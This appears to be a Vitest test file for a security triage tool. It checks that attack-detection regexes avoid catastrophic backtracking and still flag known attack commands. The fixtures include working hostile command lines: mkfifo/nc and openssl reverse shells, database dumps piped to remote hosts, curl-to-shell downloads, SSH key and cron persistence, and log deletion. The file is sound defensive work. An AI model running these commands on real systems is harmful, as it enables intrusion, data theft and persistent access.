import { describe, expect, it } from 'vitest';
import { requiredLiteralsOf } from '../../src/knowledge/indicator-literals.js';
import { ATTACK_INDICATORS } from '../../src/knowledge/indicators.js';
import { MAX_EXAMINED_CHARS, indicatorsIn } from '../../src/triage/rules/indicator-match.js';

/**
 * Alert texts are attacker-controlled: a command line built to make a pattern backtrack must not stall the triage. Each
 * pattern runs on texts of the examined length that repeat what makes patterns backtrack (separators, blanks, slashes,
 * the pattern's own first words); the slowest must stay far below a second. Before this test, dump-piped-upload took
 * hours on 40 pipes (exponential) and reverse-shell 3 minutes on 8 KB of `mkfifo x &&` (cubic).
 */
const PUMPS = [' ', '\t', '/', '&', '|', ';', ':', '.', '-', '"', 'a ', ' -a', '-c ', 'id && ', '| a  ', 'x &&'];
const PREFIXES = ['', 'sh -c ', 'mkfifo x '];
const BUDGET_MS = 2_000;

function worstCase(pattern: RegExp, literals: readonly string[]): { ms: number; text: string } {
  const pumps = [...PUMPS, ...literals.slice(0, 12).flatMap((l) => [`${l} `, `${l}/`, `${l} -c `, `${l} &&`])];
  let worst = { ms: 0, text: '' };
  for (const prefix of PREFIXES) {
    for (const pump of pumps) {
      const text = `${prefix}${pump.repeat(Math.ceil(MAX_EXAMINED_CHARS / pump.length))}`.slice(0, MAX_EXAMINED_CHARS - 1) + '!';
      const start = performance.now();
      pattern.test(text);
      const ms = performance.now() - start;
      if (ms > worst.ms) worst = { ms, text: `${prefix}${pump}${pump}…` };
    }
  }
  return worst;
}

describe('attack indicators on texts built to make them backtrack', () => {
  it.each(ATTACK_INDICATORS.map((i) => [i.id, i] as const))('%s stays fast at the examined length', (_id, indicator) => {
    const worst = worstCase(indicator.pattern, requiredLiteralsOf(indicator) ?? []);
    expect(worst.ms, `slowest on ${JSON.stringify(worst.text)}`).toBeLessThan(BUDGET_MS);
  });

  it('the former exponential and cubic cases finish at once', () => {
    const pipes = `pg_dump x ${'| a  '.repeat(40)};`;
    const fifo = 'mkfifo x &&'.repeat(Math.floor(MAX_EXAMINED_CHARS / 11));
    const start = performance.now();
    expect(indicatorsIn('command', pipes).map((i) => i.id)).not.toContain('dump-piped-upload');
    expect(indicatorsIn('command', fifo).map((i) => i.id)).not.toContain('reverse-shell');
    expect(performance.now() - start).toBeLessThan(BUDGET_MS);
  });

  it('still finds what the rewritten patterns found', () => {
    const ids = (text: string) => indicatorsIn('command', text).map((i) => i.id);
    expect(ids('pg_dump -U app shop | gzip | nc 203.0.113.9 9000')).toContain('dump-piped-upload');
    expect(ids('mysqldump --all-databases | curl -T - http://203.0.113.9/up')).toContain('dump-piped-upload');
    expect(ids('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f')).toContain('reverse-shell');
    expect(ids('mkfifo /tmp/p && nc -l 4444 < /tmp/p | sh > /tmp/p')).toContain('reverse-shell');
    expect(ids('mkfifo /tmp/p & sleep 1; openssl s_client -quiet -connect 203.0.113.9:443 < /tmp/p | sh > /tmp/p')).toContain('reverse-shell');
    expect(ids('echo "ssh-ed25519 AAAA x" | tee -a  /root/.ssh/authorized_keys')).toContain('ssh-key-persistence');
    expect(ids('cp /tmp/k /root/.ssh/authorized_keys')).toContain('ssh-key-persistence');
    expect(ids('echo "* * * * * root /tmp/x" >>   /etc/cron.d/x')).toContain('cron-persistence');
    expect(ids('rm -f  /var/log/auth.log')).toContain('log-tampering');
    expect(ids('sh -c "mkdir /mnt/h; /usr/bin/mount /dev/sda1 /mnt/h"')).toContain('host-disk-mount');
    expect(ids("bash -c   'curl -s http://203.0.113.9/x | sh'")).toContain('download-and-execute');
    expect(ids("sh -c 'id; uname -a; whoami' ")).toContain('discovery-chain');
    expect(ids('/usr/bin/sudo /usr/bin/python3 /tmp/.x/run.py')).toContain('script-from-temp');
    // traps: the same words without the shape
    expect(ids('mkfifo /run/app/ctl')).not.toContain('reverse-shell');
    expect(ids('pg_dump -U app shop | gzip > /backup/shop.sql.gz')).not.toContain('dump-piped-upload');
    expect(ids('mount /dev/sda1')).toContain('host-disk-mount');
    expect(ids('umount /mnt/data')).not.toContain('host-disk-mount');
  });

  it('looks at the first part of an over-long text only', () => {
    const padding = 'a'.repeat(MAX_EXAMINED_CHARS);
    expect(indicatorsIn('command', `nsenter -t 1 -m -- sh ${padding}`).map((i) => i.id)).toContain('host-namespace-entry');
    expect(indicatorsIn('command', `java ${padding} nsenter -t 1 -m -- sh`).map((i) => i.id)).not.toContain('host-namespace-entry');
  });
});
